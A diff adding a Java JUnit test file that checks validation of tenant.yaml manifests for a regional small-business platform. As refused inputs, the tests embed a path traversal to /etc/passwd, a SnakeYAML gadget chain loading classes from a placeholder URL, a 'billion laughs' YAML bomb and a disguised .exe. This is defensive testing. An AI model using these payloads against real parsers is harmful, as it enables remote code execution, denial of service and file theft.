@@ -1,0 +1,143 @@
+package id.etalase.tenant;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class TenantManifestTest {
+
+  @TempDir Path tenants;
+
+  @Test
+  void everyShippedTenantFolderIsValid() throws Exception {
+    try (var folders = Files.list(Path.of("tenants"))) {
+      List<Path> all = folders.filter(TenantManifest::isTenantFolder).toList();
+      assertTrue(all.size() >= 2, "bondowoso and at least one more regency ship");
+      for (Path folder : all) {
+        TenantManifest manifest = TenantManifest.read(folder);
+        assertEquals(folder.getFileName().toString(), manifest.slug());
+      }
+    }
+    TenantManifest bondowoso = TenantManifest.read(Path.of("tenants/bondowoso"));
+    assertEquals("35.11", bondowoso.regencyCode());
+    assertEquals("Kabupaten Bondowoso", bondowoso.name());
+    assertTrue(bondowoso.domains().contains("umkm.bondowosokab.go.id"));
+    assertEquals(TenantStatus.ACTIVE, bondowoso.status());
+  }
+
+  @Test
+  void aBrokenManifestListsEveryProblemAtOnce() throws Exception {
+    Path folder =
+        folder(
+            "jember",
+            """
+            slug: Jember Kota
+            regencyCode: 35.09
+            status: closed
+            defaultLanguage: jv
+            domains: [ "not a domain" ]
+            colours: { primary: red }
+            office: { email: nobody }
+            logo: ../../etc/passwd
+            """);
+    TenantManifest.InvalidException e =
+        assertThrows(TenantManifest.InvalidException.class, () -> TenantManifest.read(folder));
+    String all = String.join("\n", e.problems());
+    for (String expected :
+        List.of(
+            "slug",
+            "name",
+            "regencyCode",
+            "status",
+            "defaultLanguage",
+            "not a domain",
+            "colours",
+            "office.email",
+            "logo",
+            "hero")) {
+      assertTrue(all.contains(expected), "no problem reported about " + expected + ":\n" + all);
+    }
+  }
+
+  @Test
+  void reservedSlugsAndFolderMismatchesAreRefused() throws Exception {
+    Path platform = folder("platform", valid("platform"));
+    assertTrue(problems(platform).contains("reserved"));
+    Path other = folder("jember", valid("lumajang"));
+    assertTrue(problems(other).contains("must equal the folder name"));
+  }
+
+  @Test
+  void yamlThatNamesJavaTypesOrExplodesIsRefused() throws Exception {
+    Path gadget =
+        folder(
+            "jember",
+            "slug: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
+                + " [\"http://example.invalid/\"]]]]\n");
+    assertTrue(problems(gadget).contains("not valid YAML"));
+
+    StringBuilder bomb =
+        new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
+    for (char c = 'b'; c <= 'z'; c++) {
+      char p = (char) (c - 1);
+      bomb.append(c)
+          .append(": &")
+          .append(c)
+          .append(" [*")
+          .append(p)
+          .append(",*")
+          .append(p)
+          .append(",*")
+          .append(p)
+          .append(",*")
+          .append(p)
+          .append("]\n");
+    }
+    Path laughs = folder("jember", bomb.toString());
+    assertTrue(problems(laughs).contains("not valid YAML"));
+
+    Path list = folder("jember", "- just\n- a list\n");
+    assertTrue(problems(list).contains("mapping"));
+  }
+
+  @Test
+  void imagesMustBeFilesInsideTheFolderOfAKnownType() throws Exception {
+    Path folder = folder("jember", valid("jember").replace("hero: hero.svg", "hero: hero.exe"));
+    Files.writeString(folder.resolve("hero.exe"), "MZ");
+    assertTrue(problems(folder).contains("use .svg, .png, .jpg or .webp"));
+  }
+
+  private String problems(Path folder) {
+    return String.join(
+        "\n",
+        assertThrows(TenantManifest.InvalidException.class, () -> TenantManifest.read(folder))
+            .problems());
+  }
+
+  private Path folder(String name, String yaml) throws IOException {
+    Path folder = Files.createDirectories(tenants.resolve(name));
+    Files.writeString(folder.resolve("tenant.yaml"), yaml);
+    Files.writeString(folder.resolve("logo.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
+    Files.writeString(folder.resolve("hero.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
+    return folder;
+  }
+
+  private static String valid(String slug) {
+    return """
+        slug: %s
+        name: Kabupaten Contoh
+        regencyCode: "35.09"
+        colours: { primary: "#112233", secondary: "#eeeeee", accent: "#aa5500" }
+        logo: logo.svg
+        hero: hero.svg
+        """
+        .formatted(slug);
+  }
+}
